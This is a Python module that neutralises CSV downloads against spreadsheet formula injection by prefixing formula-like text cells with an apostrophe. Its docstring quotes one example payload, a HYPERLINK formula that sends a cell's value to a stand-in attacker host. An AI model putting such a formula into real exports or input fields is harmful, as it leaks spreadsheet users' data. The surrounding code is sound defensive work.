"""CSV files the app offers for download, made inert for spreadsheets.

A spreadsheet runs a cell that starts with ``= + - @`` (or a tab or carriage return before
one) as a formula: a visitor's nickname ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
would become a live link in the teacher's sheet. Every such text cell gets a leading ``'``,
which spreadsheets read as "this is text" and do not show. Numbers stay numbers (a negative
number is not a formula). No Streamlit here.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value):
    """value, or "'" + value when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_csv(frame: pd.DataFrame) -> bytes:
    """frame as UTF-8 CSV (with a BOM, so Excel reads Chinese and emoji) in which no cell,
    heading included, starts a formula."""
    safe = frame.rename(columns=lambda column: inert_cell(str(column)))
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(inert_cell)
    # RFC 4180 line ends: the writer then quotes a cell holding a CR, which it leaves bare with "\n"
    # (a bare CR splits the row in a spreadsheet, and the part after it is a fresh cell).
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
